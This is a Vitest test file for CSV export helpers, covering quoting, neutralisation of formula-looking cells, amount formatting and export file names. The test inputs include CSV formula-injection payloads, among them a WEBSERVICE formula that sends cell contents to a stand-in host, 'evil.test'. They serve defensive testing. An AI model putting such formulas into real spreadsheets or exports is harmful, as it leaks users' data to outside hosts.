import { describe, expect, it } from 'vitest';
import {
  buildCsv,
  centsToCsvAmount,
  csvCell,
  exportFileName,
  restoreNeutralisedFormula,
} from './csv';

describe('csvCell', () => {
  it('quotes every cell, plain text too', () => {
    expect(csvCell('Smoke City')).toBe('"Smoke City"');
    expect(csvCell('')).toBe('""');
  });

  it('quotes commas, quotes and line breaks, doubling quotes', () => {
    expect(csvCell('Smoke, Vape & More')).toBe('"Smoke, Vape & More"');
    expect(csvCell('The "Best" Shop')).toBe('"The ""Best"" Shop"');
    expect(csvCell('line one\nline two')).toBe('"line one\nline two"');
    expect(csvCell('a\r\nb')).toBe('"a\r\nb"');
  });

  it('keeps a cell holding a semicolon and a formula one cell (semicolon locales)', () => {
    expect(csvCell('Acme;=WEBSERVICE("http://evil.test/?"&A1)')).toBe(
      '"Acme;=WEBSERVICE(""http://evil.test/?""&A1)"',
    );
  });

  it.each(['=HYPERLINK("http://x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd'])(
    'neutralises a formula-looking cell %j with a leading quote',
    (value) => {
      expect(csvCell(value)).toBe(`"'${value.replace(/"/g, '""')}"`);
    },
  );

  it('neutralises and quotes at once', () => {
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    expect(csvCell('=A1&"x"')).toBe(`"'=A1&""x"""`);
  });

  it('leaves a formula character further in as it is', () => {
    expect(csvCell('Smoke=City')).toBe('"Smoke=City"');
  });

  it('restoreNeutralisedFormula takes off only the quote csvCell added', () => {
    expect(restoreNeutralisedFormula("'=1+1")).toBe('=1+1');
    expect(restoreNeutralisedFormula("'plain")).toBe("'plain");
    expect(restoreNeutralisedFormula('=1+1')).toBe('=1+1');
  });
});

describe('centsToCsvAmount', () => {
  it('shows dollars with two decimals', () => {
    expect(centsToCsvAmount(0)).toBe('0.00');
    expect(centsToCsvAmount(5)).toBe('0.05');
    expect(centsToCsvAmount(12345)).toBe('123.45');
    expect(centsToCsvAmount(100000000)).toBe('1000000.00');
  });
});

describe('buildCsv', () => {
  it('writes a BOM, the header even with no rows, and CRLF line ends', () => {
    expect(buildCsv(['A', 'B'], [])).toBe('\uFEFF"A","B"\r\n');
  });
});

describe('exportFileName', () => {
  const none = { q: '', status: null, role: null, range: null };

  it('says the filter', () => {
    expect(
      exportFileName('orders', {
        ...none,
        status: 'shipped',
        range: { from: '2026-11-01', to: '2026-11-26' },
      }),
    ).toBe('orders-2026-11-01-to-2026-11-26-shipped.csv');
    expect(exportFileName('companies', none)).toBe('companies-all.csv');
    expect(
      exportFileName('companies', {
        ...none,
        status: 'pending',
        role: 'wholesaler',
        q: ' Cloud Nine/?',
      }),
    ).toBe('companies-all-pending-wholesaler-search-cloud-nine.csv');
  });
});
